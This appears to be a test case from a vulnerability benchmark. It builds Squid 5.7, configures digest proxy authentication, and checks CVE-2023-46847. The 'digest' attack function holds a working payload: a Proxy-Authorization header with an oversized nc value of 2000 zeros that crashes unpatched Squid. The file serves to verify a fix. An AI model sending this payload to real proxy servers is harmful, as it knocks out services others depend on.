"""squid: C++; a method that decodes what a client says of itself."""
from case import Attack, Case
from service import Service, exchange
from source import Source

FIX = "debian/patches/CVE-2023-46847.patch"
SOURCE = Source(
    "squid", "5.7-2+deb12u6", fixes=[FIX],
    needs="autoconf automake libtool libtool-bin libltdl-dev pkg-config g++ "
          "gawk ed",
    configure="autoreconf -fi && ./configure --disable-arch-native --disable-shared "
              "--without-gnutls --without-openssl --without-systemd "
              "--without-xml2 --without-expat --without-mit-krb5 "
              "--without-ldap --disable-esi --disable-ecap --disable-snmp "
              "--disable-htcp --disable-wccp --disable-wccpv2 "
              "--disable-icap-client --disable-translation "
              "--disable-auto-locale --disable-strict-error-checking "
              "--disable-external-acl-helpers --disable-url-rewrite-helpers "
              "--disable-storeid-rewrite-helpers --disable-eui "
              "--disable-security-cert-validators "
              "--disable-security-cert-generators --disable-auth-basic "
              "--disable-auth-ntlm --disable-auth-negotiate "
              "--enable-auth-digest=file --enable-storeio=ufs "
              "--with-default-user=nobody --with-swapdir=/nonexistent",
    make="for d in compat lib libltdl src; do [ ! -d $d ] || "
         'make -j"$(nproc)" -C $d; done')


def conf():
    return f"""http_port 127.0.0.1:{{port}}
visible_hostname case
pid_filename {{dir}}/pid
cache_log {{dir}}/cache.log
access_log none
coredump_dir {{dir}}
mime_table {SOURCE.path("src/mime.conf.default")}
error_directory {SOURCE.path("errors/templates")}
icon_directory {SOURCE.path("icons/silk")}
auth_param digest program /bin/cat
auth_param digest realm r
acl user proxy_auth REQUIRED
http_access allow user
unlinkd_program {SOURCE.path("src/unlinkd")}
pinger_enable off
shutdown_lifetime 0 seconds
"""


def get(service, header):
    answer = exchange(service.port, "GET http://127.0.0.1:1/ HTTP/1.1\r\n"
                      f"Host: x\r\n{header}\r\n\r\n")
    return answer.partition("\r\n")[0]


def digest(service):
    """A count of requests that is longer than any can be."""
    return get(service, 'Proxy-Authorization: Digest username="u", realm="r", '
               'nonce="n", uri="/", response="' + "a" * 32 + '", qop=auth, '
               'cnonce="c", nc=' + "0" * 2000)


CASES = [Case(
    "19", SOURCE, labels="CVE-2023-46847", fix=FIX, targets="src/squid",
    start=lambda: Service(SOURCE.path("src/squid"), "-N", "-f", "{dir}/conf",
                          files={"conf": conf()}),
    works=lambda service: " 407 " in get(service, "Accept: */*"),
    attacks=[Attack(digest, "died", "^HTTP/1.1 407")])]
